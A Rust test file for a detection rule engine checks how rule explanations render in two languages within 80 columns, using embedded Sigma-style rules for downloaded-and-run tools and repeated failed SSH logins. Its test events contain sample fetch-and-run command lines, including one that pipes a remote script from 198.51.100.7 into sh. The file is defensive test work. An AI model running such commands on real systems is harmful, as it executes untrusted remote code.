//! How an explanation reads, in both languages, on 80 columns.

use serde_json::json;
use watchpost_model::{Event, Kind, Timestamp, field};
use watchpost_rules::explain::{count, explain};
use watchpost_rules::{RuleSet, Source, Subject};

use super::*;
use crate::widgets::cells;
use crate::words::Lang;
use crate::words::explain::words;

const RULES: &str = "title: Tool fetched and run
id: fetch
logsource: {category: process_creation, product: linux}
detection:
  tool:
    Image|endswith: [/curl, /wget, /fetch]
    CommandLine|contains|all: ['http', ' -o ']
  odd_user:
    - User: nobody
    - User|re: '^www-[a-z]+$'
  near:
    DestinationIp|cidr: 10.0.0.0/8
  parent_same:
    ParentImage|fieldref: Image
  shell:
    ParentImage|exists: true
  filter_update:
    CommandLine|contains: mirror
  condition: tool and (odd_user or near or parent_same) and shell and not 1 of filter_*
watchpost:
  title_zh: 下载并运行工具
---
title: Known updates
id: updates
logsource: {category: process_creation, product: linux}
filter:
  rules: [fetch]
  selection: {User: updater}
  condition: not selection
---
title: Failed login
id: failed
name: failed
logsource: {product: linux, service: sshd}
detection: {s: {event.outcome: failure}, condition: s}
---
title: Many failed logins
id: many
correlation:
  type: value_count
  rules: [failed]
  group-by: [source.ip]
  timespan: 1m
  condition: {field: user.name, gte: 2}
";

fn set() -> RuleSet {
    let set = RuleSet::load(&[Source { name: "r.yml".into(), text: RULES.into() }]);
    assert_eq!(set.rejected(), []);
    set
}

#[track_caller]
fn golden(name: &str, write: impl Fn(&Words, &mut Page)) {
    for lang in Lang::ALL {
        let mut page = Page::default();
        write(words(lang), &mut page);
        let wide: Vec<&str> = page.text().lines().filter(|line| cells::width(line) > 80).collect();
        assert!(wide.is_empty(), "{wide:?}");
        insta::assert_snapshot!(format!("{name}_{}", lang.tag()), page.text());
    }
}

#[test]
fn a_typed_event_that_fails_in_several_ways() {
    let mut event = Event::new(Kind::Process, Timestamp::EPOCH);
    event.record.set(field::PROCESS_EXECUTABLE, "/usr/bin/crul");
    event.record.set(field::PROCESS_COMMAND_LINE, "crul HTTP://198.51.100.7/x.sh | sh");
    event.record.set(field::USER_NAME, "www");
    let said = explain(&set(), "fetch", &Subject::Typed(&event)).unwrap();
    golden("failing", |words, page| explanation(&said, 1, words, page));
}

#[test]
fn a_foreign_event_that_fires() {
    let event = json!({
        "Image": "/usr/bin/curl", "CommandLine": "curl -s http://198.51.100.7/x -o /tmp/x", "User": "www-data",
        "ParentImage": "/bin/bash", "EventID": 1, "Channel": "Linux-Sysmon/Operational",
    });
    let logsource = watchpost_rules::OwnedLogsource::parse("product=linux,category=process_creation");
    let subject = Subject::Foreign { json: &event, logsource: logsource.as_ref() };
    let said = explain(&set(), "fetch", &subject).unwrap();
    assert!(said.fires);
    golden("firing", |words, page| explanation(&said, 2, words, page));
}

#[test]
fn an_event_of_another_source() {
    let event = json!({"a": "text with \u{1b}[31mescape"});
    let said = explain(&set(), "failed", &Subject::Foreign { json: &event, logsource: None }).unwrap();
    golden("elsewhere", |words, page| explanation(&said, 1, words, page));
}

#[test]
fn a_correlation_over_several_events() {
    let event = |second: i64, source: Option<[u8; 4]>, user: &str, outcome: &str| {
        let mut event = Event::new(Kind::Auth, Timestamp::from_parts(1_700_000_000 + second, 0));
        event.record.set(field::EVENT_PROVIDER, "sshd");
        event.record.set(field::EVENT_OUTCOME, outcome);
        event.record.set(field::USER_NAME, user);
        event.record.set_some(field::SOURCE_IP, source.map(std::net::IpAddr::from));
        event
    };
    let one = Some([198, 51, 100, 7]);
    let events = [
        event(0, one, "root", "failure"),
        event(1, None, "root", "failure"),
        event(2, one, "root", "success"),
        event(5, one, "admin", "failure"),
        event(6, one, "admin", "failure"),
    ];
    let subjects: Vec<_> = events.iter().map(|event| (Subject::Typed(event), event.time)).collect();
    let said = count(&set(), "many", &subjects).unwrap();
    golden("counted", |words, page| counted(&said, words, page));
}
